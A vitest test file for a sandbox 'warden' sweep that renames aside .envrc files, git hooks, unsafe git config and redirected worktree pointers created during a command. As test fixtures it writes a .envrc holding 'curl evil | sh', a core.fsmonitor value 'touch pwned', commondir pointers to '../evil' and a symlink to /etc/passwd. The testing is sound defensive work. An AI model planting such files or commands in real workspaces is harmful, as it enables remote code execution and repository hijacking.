import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import picomatch from "picomatch";
import { afterAll, describe, expect, it } from "vitest";
import { snapshotProtected, sweepProtected } from "./protected-sweep.js";

const base = realpathSync(mkdtempSync(join(tmpdir(), "warden-sweep-")));
afterAll(() => rmSync(base, { recursive: true, force: true }));

const rules = ["**/.envrc", "**/.warden", "**/.warden/**", "**/.git", "**/.git/hooks", "**/.git/hooks/**", "**/.git/config", "**/.git/commondir", "**/.git/worktrees/*/gitdir", "**/.git/worktrees/*/commondir"].map(
	(p) => picomatch(p, { dot: true }),
);
const covers = (rel: string) => rules.some((t) => t(rel) || t(`${rel}/x`));

function put(ws: string, rel: string, text = "x\n"): void {
	mkdirSync(dirname(join(ws, rel)), { recursive: true });
	writeFileSync(join(ws, rel), text);
}

function workspace(name: string): string {
	const ws = join(base, name);
	mkdirSync(ws, { recursive: true });
	return ws;
}

const git = (cwd: string, ...args: string[]) => spawnSync("git", ["-c", "user.email=a@example.com", "-c", "user.name=a", ...args], { cwd, encoding: "utf8" });

describe("sweepProtected", () => {
	it("renames what a command made among protected paths, keeps what was there and ordinary files", () => {
		const ws = workspace("made");
		put(ws, "old/.envrc", "kept\n");
		const snap = snapshotProtected(ws, covers);
		put(ws, "a/b/.envrc", "curl evil | sh\n");
		put(ws, "sub/.warden/config.yaml", "mode: full-access\n");
		put(ws, "src/app.js");
		const refused = sweepProtected(snap);
		expect(refused.map((r) => r.split(" ")[0]).sort()).toEqual(["a/b/.envrc", "sub/.warden"]);
		expect(existsSync(join(ws, "a/b/.envrc"))).toBe(false);
		expect(readFileSync(join(ws, "a/b/.envrc.warden-refused"), "utf8")).toBe("curl evil | sh\n");
		expect(existsSync(join(ws, "sub/.warden.warden-refused/config.yaml"))).toBe(true);
		expect(readFileSync(join(ws, "old/.envrc"), "utf8")).toBe("kept\n");
		expect(existsSync(join(ws, "src/app.js"))).toBe(true);
	});

	it("takes another file under a protected name for a new one, and never overwrites an earlier refusal", () => {
		const ws = workspace("replaced");
		put(ws, "x/.envrc", "first\n");
		put(ws, "x/.envrc.warden-refused", "earlier\n");
		const snap = snapshotProtected(ws, covers);
		renameSync(join(ws, "x/.envrc"), join(ws, "x/moved"));
		put(ws, "x/.envrc", "second\n");
		expect(sweepProtected(snap)).toHaveLength(1);
		expect(readFileSync(join(ws, "x/.envrc.warden-refused"), "utf8")).toBe("earlier\n");
		expect(readFileSync(join(ws, "x/.envrc.warden-refused-2"), "utf8")).toBe("second\n");
	});

	it("lets git init, a first commit and git worktree add stand, and puts aside a hook and an unsafe key made with them", () => {
		const ws = workspace("git");
		put(ws, "notes.md", "notes\n");
		const snap = snapshotProtected(ws, covers);
		expect(git(ws, "init", "-q").status).toBe(0);
		expect(git(ws, "add", "notes.md").status).toBe(0);
		expect(git(ws, "commit", "-qm", "first").status).toBe(0);
		expect(git(ws, "worktree", "add", "-q", "wt").status).toBe(0);
		expect(git(ws, "config", "core.fsmonitor", "touch pwned").status).toBe(0);
		put(ws, ".git/hooks/pre-commit", "#!/bin/sh\n");
		const refused = sweepProtected(snap);
		expect(refused.map((r) => r.split(" ")[0]).sort()).toEqual([".git/config", ".git/hooks/pre-commit"]);
		expect(readFileSync(join(ws, ".git/config"), "utf8")).not.toContain("fsmonitor");
		expect(readFileSync(join(ws, ".git/config"), "utf8")).toContain("repositoryformatversion");
		expect(git(ws, "log", "--format=%s").stdout).toBe("first\n");
		expect(git(join(ws, "wt"), "status", "--short").status).toBe(0);
	});

	it("puts aside a new .git/commondir and a worktree pointer that leads elsewhere", () => {
		const ws = workspace("pointers");
		expect(git(ws, "init", "-q").status).toBe(0);
		const snap = snapshotProtected(ws, covers);
		put(ws, ".git/commondir", "../evil\n");
		put(ws, "wt/.git", "gitdir: ../evil\n");
		mkdirSync(join(ws, "evil"));
		expect(sweepProtected(snap).map((r) => r.split(" ")[0]).sort()).toEqual([".git/commondir", "wt/.git"]);
	});

	it("puts aside a FIFO under a protected name without ever reading it (a read would block)", () => {
		const ws = workspace("fifo");
		const snap = snapshotProtected(ws, covers);
		mkdirSync(join(ws, "r", ".git"), { recursive: true });
		writeFileSync(join(ws, "r", ".git", "HEAD"), "ref: refs/heads/main\n");
		expect(spawnSync("mkfifo", [join(ws, "r", ".git", "config")]).status).toBe(0);
		expect(spawnSync("mkfifo", [join(ws, ".envrc")]).status).toBe(0);
		const refused = sweepProtected(snap);
		expect(refused.map((r) => r.split(" ")[0]).sort()).toEqual([".envrc", "r/.git/config"]);
		expect(existsSync(join(ws, "r", ".git", "config"))).toBe(false);
	});

	it("puts aside a link under a protected name, and a .git stand-in that did not become a repository", () => {
		const ws = workspace("links");
		mkdirSync(join(ws, ".git"));
		const snap = snapshotProtected(ws, covers);
		symlinkSync("/etc/passwd", join(ws, ".envrc"));
		put(ws, ".git/hooks/pre-commit");
		const refused = sweepProtected(snap, [join(ws, ".git")]);
		expect(refused.map((r) => r.split(" ")[0]).sort()).toEqual([".envrc", ".git"]);
		expect(existsSync(join(ws, ".git"))).toBe(false);
		expect(existsSync(join(ws, ".git.warden-refused/hooks/pre-commit"))).toBe(true);
	});
});
